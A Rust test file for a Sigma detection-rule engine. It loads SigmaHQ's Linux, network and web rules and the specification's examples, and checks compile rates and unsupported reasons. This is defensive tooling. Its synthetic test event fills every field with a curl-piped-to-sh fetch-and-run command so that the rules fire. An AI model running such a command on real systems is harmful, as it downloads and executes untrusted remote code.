//! Loads SigmaHQ's linux, network and web rules (from `shared/corpora`, beside the checkout):
//! no panics, at least 95 % compiled, no invalid rule, unsupported reasons listed with counts.

use canh_rules::{LoadStatus, Mapping, NaiveHits, RuleSet, Summary};
use std::collections::BTreeMap;
use std::path::{Path, PathBuf};

/// Share of SigmaHQ's rules for these logsources that must compile.
const MIN_COMPILED_SHARE: f64 = 0.95;

fn corpus() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("../../shared/corpora/sigma-rules/rules")
}

fn rule_files(dir: &Path, out: &mut Vec<(String, String)>) {
    let Ok(entries) = std::fs::read_dir(dir) else {
        return;
    };
    let mut paths: Vec<PathBuf> = entries.filter_map(|e| e.ok().map(|e| e.path())).collect();
    paths.sort();
    for p in paths {
        if p.is_dir() {
            rule_files(&p, out);
        } else if p.extension().is_some_and(|e| e == "yml" || e == "yaml") {
            let text = std::fs::read_to_string(&p).expect("rule files are UTF-8");
            out.push((p.display().to_string(), text));
        }
    }
}

#[test]
fn sigmahq_linux_network_web() {
    let root = corpus();
    if !root.is_dir() {
        println!("skipped: {} is absent", root.display());
        return;
    }
    let mut files = Vec::new();
    for sub in ["linux", "network", "web"] {
        rule_files(&root.join(sub), &mut files);
    }
    assert!(!files.is_empty(), "no rule files under {}", root.display());
    let (set, reports) = RuleSet::load(&files, Mapping::builtin());
    let summary = Summary::of(&reports);
    println!("sigmahq: {} files, {summary}", files.len());
    println!(
        "sigmahq: {} patterns on {} fields, {} checks",
        set.patterns().len(),
        set.fields().len(),
        set.checks().len()
    );

    let mut reasons: BTreeMap<&str, usize> = BTreeMap::new();
    let mut invalid = Vec::new();
    for r in &reports {
        match &r.status {
            LoadStatus::Unsupported { reason } => *reasons.entry(reason).or_default() += 1,
            LoadStatus::Invalid { .. } => invalid.push(r.to_string()),
            LoadStatus::Compiled => {}
        }
    }
    let mut by_count: Vec<_> = reasons.into_iter().collect();
    by_count.sort_by(|a, b| b.1.cmp(&a.1).then(a.0.cmp(b.0)));
    for (reason, n) in &by_count {
        println!("unsupported {n:4}: {reason}");
    }
    for i in &invalid {
        println!("invalid: {i}");
    }
    assert!(invalid.is_empty(), "SigmaHQ ships no invalid rule");
    let share = summary.compiled as f64 / summary.total() as f64;
    assert!(
        share >= MIN_COMPILED_SHARE,
        "only {:.1} % compiled",
        share * 100.0
    );

    // Every compiled rule evaluates on an empty and on a busy event without panicking.
    let empty: BTreeMap<String, String> = BTreeMap::new();
    assert!(set.matches_naive(&empty).len() <= set.compiled().len());
    let busy: BTreeMap<String, String> = set
        .fields()
        .iter()
        .map(|f| {
            (
                f.written.clone(),
                "/bin/bash -c 'curl http://x/a.sh | sh' wget ".to_owned(),
            )
        })
        .collect();
    let hits = NaiveHits::new(&set, &busy);
    let matched = set.matches(&busy, &hits);
    println!(
        "sigmahq: {} rules match a busy synthetic event",
        matched.len()
    );
}

/// The specification's own examples: detection rules and filters compile, correlation rules
/// are kept as unsupported, and nothing is invalid.
#[test]
fn specification_examples() {
    let root = Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("../../shared/corpora/sigma-specification/examples");
    if !root.is_dir() {
        println!("skipped: {} is absent", root.display());
        return;
    }
    let mut files = Vec::new();
    rule_files(&root, &mut files);
    let (set, reports) = RuleSet::load(&files, Mapping::builtin());
    for r in &reports {
        println!("{r}");
        let file = &r.source.file;
        match &r.status {
            LoadStatus::Compiled => assert!(!file.contains("/correlation/"), "{r}"),
            LoadStatus::Unsupported { reason } => {
                assert!(file.contains("/correlation/"), "{r}");
                assert!(reason.starts_with("correlation rules"), "{r}");
            }
            LoadStatus::Invalid { .. } => panic!("{r}"),
        }
    }
    assert_eq!(Summary::of(&reports).compiled, 4);
    assert_eq!(set.compiled().len(), 2);
}
